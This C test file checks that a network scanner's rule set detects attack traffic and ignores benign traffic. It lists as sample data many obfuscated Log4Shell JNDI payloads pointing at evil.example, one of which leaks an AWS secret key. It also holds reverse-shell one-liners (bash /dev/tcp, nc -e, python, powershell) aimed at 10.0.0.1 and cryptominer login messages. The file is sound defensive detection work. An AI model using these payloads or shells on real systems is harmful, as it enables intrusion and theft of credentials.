/* SPDX-License-Identifier: BSD-3-Clause */
/* The rules that weir ships: what they find, in one piece and byte by byte, and what they leave. */
#include "scan_test.h"

#include <stdio.h>

Suite *scan_set_suite(void);

#define TO_SERVER WEIR_SCAN_TO_SERVER
#define TO_CLIENT WEIR_SCAN_TO_CLIENT

static struct weir_scan_db *load_set(void)
{
	const char *paths[] = {WEIR_RULES};
	struct weir_conf_report *r = weir_conf_report_create();
	struct weir_scan_cfg cfg = {
		.paths = paths, .n_paths = 1, .n_workers = 1, .streams = 2, .names = names()};
	struct weir_scan_db *db;

	ck_assert_int_eq(weir_scan_load(&cfg, r, &db), 0);
	ck_assert_uint_eq(weir_conf_errors(r) + weir_conf_warnings(r), 0);
	weir_conf_report_destroy(r);
	return db;
}

/* A literal's own length counts, so that zero bytes may be inside. */
#define B(text) text, sizeof(text) - 1

struct sample {
	const char *bytes;
	size_t len;
	uint32_t id;       /* that must be found */
	uint8_t direction; /* TO_SERVER when it is left out */
};

static const struct sample samples[] = {
	{B("GET /?q=${jndi:ldap://evil.example/a} HTTP/1.1\r\n"), 1001},
	{B("User-Agent: ${JnDi:RmI://evil.example:1099/a}\r\n"), 1001},
	{B("X: ${jndi:dns://10.0.0.1/${env:AWS_SECRET_ACCESS_KEY}}\r\n"), 1001},
	{B("${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}"), 1001},
	{B("${${lower:j}ndi:ldap://evil.example/a}"), 1001},
	{B("${${lower:${lower:jndi}}:${lower:rmi}://evil.example/a}"), 1001},
	{B("${${upper:j}${upper:n}${lower:d}i:ldap://evil.example/a}"), 1001},
	{B("${${lower:${upper:${lower:${upper:${lower:j}}}}}ndi:ldap://evil.example/a}"), 1001},
	{B("${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x/a}"), 1001},
	{B("${${::-j}ndi:rmi://evil.example/a}"), 1001},
	{B("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}"), 1001},
	{B("${${sys:x:-j}${sys:x:-n}${sys:x:-d}${sys:x:-i}:ldap://x/a}"), 1001},
	{B("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}"), 1001},
	{B("${j${lower:n}d${lower:i}:ldap://x/a}"), 1001},
	{B("${jn${::-}di:ldap://x/a}"), 1001},
	{B("${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x/a}"), 1001},
	{B("${jnd${123%25ff:-${123%25ff:-i:}}ldap://x/a}"), 1001},
	{B("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}"), 1001},
	{B("${jnd${upper:\xc4\xb1}:ldap://x/a}"), 1001},
	{B("${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://x/a}"), 1001},
	{B("GET /?x=%24%7Bjndi%3Aldap%3A//evil/a HTTP/1.1"), 1001},
	{B("GET /?x=$%7bjndi:ldap://evil/a%7D HTTP/1.1"), 1001},
	{B("GET /?x=%2524%257Bjndi%253Aldap%253A//evil/a HTTP/1.1"), 1001},
	{B("GET /?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A//evil/a HTTP/1.1"), 1001},
	{B("GET /?x=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:ldap://x HTTP/1.1"), 1001},
	{B("{\"x\":\"\\u0024\\u007bjndi:ldap://x/a}\"}"), 1002},
	{B("{\"x\":\"$\\u007b\\u006Andi\\u003Aldap://x/a}\"}"), 1002},
	{B("{\"x\":\"${\\u004a\\u004e\\u0044\\u0049:ldap://x/a}\"}"), 1002},
	{B("${${env:FIRST}ndi:ldap://evil.example/a}"), 1003},
	{B("${j${env:SECOND}d${env:FOURTH}:rmi://evil.example/a}"), 1003},
	{B("X: ${base64:JHtqbmRpOmxkYXA6Ly94L2F9}"), 1004},
	{B("${${::-${::-$${::-j}}}}"), 1005},

	{B("\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00"), 1101},
	{B("\x30\x84\x00\x00\x00\x10\x02\x01\x01\x60\x84\x00\x00\x00\x07\x02\x01\x03\x04\x00\x80"),
	 1101},
	{B("\x30\x84\x00\x00\x00\x10\x02\x04\x01\x02\x03\x04\x60\x84\x00\x00\x00\x07\x02\x01\x03"
	   "\x04"),
	 1101},
	{B("\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00\x30\x25\x02\x01\x02\x63\x20"
	   "\x04\x01\x61\x0a\x01\x00\x0a\x01\x03\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87"),
	 1102},
	{B("\x30\x3a\x02\x01\x02\x63\x35\x04\x01\x61\x0a\x01\x02\x0a\x01\x00\x02\x02\x03\xe8\x02"
	   "\x01\x3c\x01\x01\xff\x87\x0bobjectClass"),
	 1102},
	{B("\x30\x81\x80\x02\x01\x02\x64\x7b\x04\x01\x61\x30\x76\x30\x1a\x04\x0d"
	   "javaClassName\x31\x09"),
	 1103, TO_CLIENT},
	{B("0\x81\x80\x04\x0cjavaCodeBase1"), 1103, TO_CLIENT},
	{B("0\x81\x80\x04\x0bjavaFactory1"), 1103, TO_CLIENT},
	{B("0\x81\x80\x04\x12javaSerializedData1"), 1103, TO_CLIENT},
	{B("JRMI\x00\x02K"), 1111},
	{B("JRMI\x00\x01L"), 1111},
	{B("\xac\xed\x00\x05sr\x00\x11java.util.HashMap"), 1112},
	{B("\xac\xed\x00\x05w\x01P"), 1112, TO_CLIENT},
	{B("GIOP\x01\x02\x01\x00\x00\x00\x00\x50"), 1121},
	{B("GIOP\x01\x00\x00\x03\x00\x00\x00\x50"), 1121},

	{B("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"), 1201},
	{B("a=1;/bin/sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5\n"), 1201},
	{B("zsh  -i >& /dev/udp/10.0.0.1/53 0>&1\n"), 1201},
	{B("GET /?c=bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444 HTTP/1.1\r\n"), 1201},
	{B("GET /?c=bash%20-i%20%3E&%20/dev/tcp/10.0.0.1/4444 HTTP/1.1\r\n"), 1201},
	{B("nc -nv 10.0.0.1 4444 -e /bin/sh\n"), 1202},
	{B("ncat 10.0.0.1 4444 -e /bin/bash\n"), 1202},
	{B("nc.exe 10.0.0.1 4444 -e cmd.exe\n"), 1202},
	{B("nc.traditional -lvp 4444 -c /usr/bin/bash\n"), 1202},
	{B("netcat -e /bin/dash 10.0.0.1 443"), 1202},
	{B("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1>/tmp/f"), 1203},
	{B("python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'"),
	 1204},
	{B("python -c 'import pty,socket;s=socket.socket();\npty.spawn(\"sh\")'"), 1204},
	{B("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu"),
	 1205},
	{B("pwsh -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu"), 1205, TO_CLIENT},
	{B("$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443)"), 1206},
	{B("$c=new-object net.sockets.tcpclient (\"10.0.0.1\",443)"), 1206, TO_CLIENT},
	{B("bash: cannot set terminal process group (1): Inappropriate ioctl for device\n"), 1211},
	{B("bash: no job control in this shell\n"), 1211},
	{B("/bin/sh: 0: can't access tty; job control turned off\n# "), 1211},
	{B("sh: no job control in this shell\n"), 1211, TO_CLIENT},
	{B("Microsoft Windows [Version 10.0.19045.1]\r\n"), 1212},
	{B("Windows PowerShell running as user joe on PC\n"), 1212},
	{B("Windows PowerShell\r\nCopyright (C) Microsoft Corporation"), 1212},
	{B("uid=0(root) gid=0(root) groups=0(root)\n"), 1213},
	{B("uid=33(www-data) gid=33(www-data)\n"), 1213, TO_CLIENT},
	{B("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"), 1251, TO_CLIENT},
	{B("nc -nv 10.0.0.1 4444 -e /bin/sh\n"), 1252, TO_CLIENT},
	{B("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 >/tmp/f"), 1253, TO_CLIENT},
	{B("python -c 'import socket;os.dup2(s.fileno(),0)'"), 1254, TO_CLIENT},

	{B("{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}\n"), 1301},
	{B("{\"params\":[\"w\",\"x\"],\"id\":2,\"method\":\"mining.authorize\"}\n"), 1301},
	{B("{\"id\":null,\"method\" : \"mining.notify\",\"params\":[]}\n"), 1301, TO_CLIENT},
	{B("{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4\",\"agent\":\"XMRig/"
	   "6.16\"}}\n"),
	 1302},
	{B("{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4\",\"pass\":\"x\",\"algo\":["
	   "\"rx/"
	   "0\"]}}\n"),
	 1302},
	{B("{\"id\":2,\"method\":\"eth_submitLogin\"}\n"), 1303},
	{B("\x00\x00\x00\x54\xffSMBr\x00\x00"), 1401},
	{B("\x00\x00\x00\x54\xfeSMB\x40\x00\x00"), 1402},
	{B("\x81\x00\x00\x44 CKFDENECFDEFFCFGEFFCCACACACACACA\x00"), 1403},
};

/* Each is harmless, sent to a server and to a client. */
static const struct {
	const char *bytes;
	size_t len;
} harmless[] = {
	{B("GET /docs/jndi/ldap.html HTTP/1.1\r\nHost: a.example\r\n\r\n")},
	{B("java.naming.provider.url=ldap://ldap.example:389\njndi: java:comp/env/jdbc/db\n")},
	{B("echo ${HOME}/${USER:-nobody}: ${PATH}")},
	{B("const s = `${a}:${b} ${c.map(x => `${x}`)}`;")},
	{B("const s = `${a ? `${b:-j}` : `${c}`} and in ${d}: ldap`;")},
	{B("price: ${price:-0}, name: ${name} (json: {\"a\": 1})")},
	{B("url: ${SCHEME:-https}://${HOST:-localhost}:${PORT:-389}/ldap")},
	{B("${${VERSION}} ${${A}${B}}: http://a.example/")},
	{B("${base64:aGVsbG8=} ${env:HOME} ${sys:user.name} ${date:yyyy-MM-dd}")},
	{B("$('j').n({d: 'i'}); ${'j'} n d i :")},
	{B("100%24 %7B %24%7Bprice%7D and jndi%3A")},
	{B("{\"cost\":\"\\u0024 5\",\"set\":\"\\u007b1\\u007d\",\"n\":\"jndi:x\"}")},
	{B("POST /a HTTP/1.1\r\nContent-Length: 9\r\n\r\nuid=0&gid=")},
	{B(" uid=0(root) gid=0(root)")},
	{B("run ./install.sh -i, then ssh -i key host > /dev/null")},
	{B("publish -i --input /dev/stdin")},
	{B("timeout 1 bash -c '</dev/tcp/db/5432' && echo up")},
	{B("the nc command and the -e flag of sh are two things")},
	{B("nc -zv db.example 5432; sync -e a")},
	{B("sudo su -c /bin/sh; rsync -e /usr/bin/ssh a b")},
	{B("mkfifo /tmp/queue; cat /tmp/queue | gzip > out.gz")},
	{B("python3 -c 'import json,sys; print(json.load(sys.stdin))'")},
	{B("import socket\nprint(socket.gethostname())\nos.dup2(a, b)\n")},
	{B("powershell -File build.ps1 -Encoding utf8")},
	{B("powershell -ExecutionPolicy Bypass -File C:\\scripts\\deploy.ps1")},
	{B("New-Object System.Net.WebClient; New-Object PSObject")},
	{B("var c = new System.Net.Sockets.TcpClient(host, port);")},
	{B("The error was: bash: no job control in this shell")},
	{B("<p>Microsoft Windows [Version 10.0.19045.1]</p>")},
	{B("{\"method\":\"login\",\"params\":{\"user\":\"a\",\"agent\":\"firefox\"}}")},
	{B("{\"method\":\"login\",\"algo\":[\"RS256\"]}")},
	{B("{\"jsonrpc\":\"2.0\",\"method\":\"eth_call\"}")},
	{B("{\"method\":\"data.mining.list\",\"id\":1}")},
	{B("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")},
	{B("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")},
	{B("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")},
	{B("\x00\x00\x00\x08\x04\xd2\x16\x2f")}, /* PostgreSQL asks for TLS */
	{B("\x4a\x00\x00\x00\x0a"
	   "8.0.33\x00\x01\x00\x00\x00")}, /* MySQL greets */
	{B("*1\r\n$4\r\nPING\r\n")},       /* Redis */
	{B("\x10\x1a\x00\x04MQTT\x04\x02\x00\x3c\x00\x0e"
	   "client")}, /* MQTT */
	{B("AMQP\x00\x00\x09\x01")},
	{B("\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01"
	   "a\x00\x00\x01\x00\x01")},
	{B("220 mail.example ESMTP\r\nEHLO a\r\nMAIL FROM:<a@b.example>\r\n")},
	{B("\x30\x82\x02\x10\x30\x82\x01\xb6\xa0\x03\x02\x01\x02\x02\x09")}, /* a certificate */
	{B("\x30\x29\x02\x01\x01\x04\x06public\xa0\x1c\x02\x04")},           /* SNMP over TCP */
	{B("\x04\x09objectSid\x04\x0b"
	   "displayName\x04\x02"
	   "cn")},
	{B("import javax.naming.Context; // javaClassName, javaFactory")},
	{B("GIOP is a protocol; JRMI, too; so is \xffSMB")},
	{B("BitTorrent protocol, \x13"
	   "BitTorrent protocol")},
	{B("\x05\x01\x00"
	   "\x05\x00\x00\x01\x0a\x00\x00\x01\x01\xbb")}, /* SOCKS */
};

/* What is said about the subjects without being one of them: each word in each sentence. */
static const char *const words[] = {
	"jndi",          "ldap://directory.example/",
	"rmi",           "${name}",
	"${env:HOME}",   "${user:-nobody}",
	"%24%7Bname%7D", "bash -i",
	"/dev/tcp",      "/dev/null",
	"nc -l 80",      "-e /bin/sh",
	"mkfifo",        "powershell",
	"New-Object",    "TCPClient",
	"mining",        "stratum",
	"xmrig",         "login",
	"SMB",           "GIOP",
	"JRMI",          "uid=0(root)",
	"javaClassName", "base64:",
	"\\u0024",       "dup2",
	"pty.spawn",     "import socket",
};
static const char *const sentences[] = {
	"GET /search?q=%s HTTP/1.1\r\nHost: a.example\r\n\r\n",
	"POST /a HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"text\": \"about %s\"}",
	"<p>A page about <b>%s</b> and why it matters.</p>",
	"User-Agent: %s/1.0\r\nCookie: a=b; c=%7B\r\n",
	"# %s\nkey: value\nother: [1, 2]\n",
	"MAIL FROM:<a@b.example>\r\nSubject: %s, once more\r\n",
	"{\"method\": \"%s\", \"params\": [], \"id\": 7}",
	"INSERT INTO t VALUES ('%s', 1, NULL);",
	"2026-01-01T00:00:00Z INFO handler: %s done in 5ms",
	"let x = `x`; // %s",
};

/* ---- finding ---- */

/* Feeds in pieces of `step`; tells whether `id` was found (0: whether anything was). */
static bool finds(struct weir_scan_db *db, const struct sample *s, size_t step)
{
	struct weir_scan_stream stream;
	struct weir_scan_match m[8];
	bool found = false, stop = false;
	unsigned int more;

	ck_assert_int_eq(
		weir_scan_open(&stream, db, 0, s->direction ? s->direction : TO_SERVER, 8080), 0);
	for (size_t at = 0; at < s->len && !stop; at += step) {
		size_t n = s->len - at < step ? s->len - at : step;
		int got = weir_scan_feed(&stream,
					 (struct weir_bytes){(const uint8_t *)s->bytes + at, n}, m,
					 8, &more, &stop);

		for (int i = 0; i < got; i++)
			found |= s->id == 0 || weir_scan_rule(db, m[i].rule)->id == s->id;
	}
	weir_scan_close(&stream);
	return found;
}

START_TEST(samples_are_found_whole_and_byte_by_byte)
{
	struct weir_scan_db *db = load_set();

	for (size_t i = 0; i < WEIR_ARRAY_LEN(samples); i++)
		for (size_t step = samples[i].len; step; step = step > 1 ? 1 : 0)
			ck_assert_msg(finds(db, &samples[i], step), "%u, sample %zu: %.60s",
				      samples[i].id, i, samples[i].bytes);
	put(db);
}
END_TEST

START_TEST(every_rule_has_a_sample)
{
	struct weir_scan_db *db = load_set();
	struct weir_scan_info info;

	weir_scan_db_info(db, &info);
	for (uint32_t i = 0; i < info.rules; i++) {
		const struct weir_scan_rule *rule = weir_scan_rule(db, i);
		bool sampled = false;

		for (size_t k = 0; k < WEIR_ARRAY_LEN(samples); k++)
			sampled |= samples[k].id == rule->id;
		ck_assert_msg(sampled, "%u", rule->id);
		ck_assert_str_ne(weir_names_get(names(), rule->message), rule->expression);
	}
	put(db);
}
END_TEST

static void expect_nothing(struct weir_scan_db *db, const char *bytes, size_t len)
{
	for (uint8_t direction = TO_SERVER; direction <= TO_CLIENT; direction++) {
		const struct sample s = {bytes, len, 0, direction};

		ck_assert_msg(!finds(db, &s, len), "%.80s", bytes);
	}
}

START_TEST(what_is_harmless_is_left)
{
	struct weir_scan_db *db = load_set();
	char text[256];

	for (size_t i = 0; i < WEIR_ARRAY_LEN(harmless); i++)
		expect_nothing(db, harmless[i].bytes, harmless[i].len);
	for (size_t i = 0; i < WEIR_ARRAY_LEN(sentences); i++)
		for (size_t k = 0; k < WEIR_ARRAY_LEN(words); k++) {
			const char *at = strstr(sentences[i], "%s");

			snprintf(text, sizeof(text), "%.*s%s%s", (int)(at - sentences[i]),
				 sentences[i], words[k], at + 2);
			expect_nothing(db, text, strlen(text));
		}
	put(db);
}
END_TEST

/* What a page says that its readers may see, a server must not be sent. */
START_TEST(an_answer_may_speak_of_lookups)
{
	struct weir_scan_db *db = load_set();
	const struct sample page = {B("<code>${jndi:ldap://evil.example/a}</code>"), 0, TO_CLIENT};

	ck_assert(!finds(db, &page, page.len));
	put(db);
}
END_TEST

Suite *scan_set_suite(void)
{
	return WEIR_SUITE("scan set", samples_are_found_whole_and_byte_by_byte,
			  every_rule_has_a_sample, what_is_harmless_is_left,
			  an_answer_may_speak_of_lookups);
}
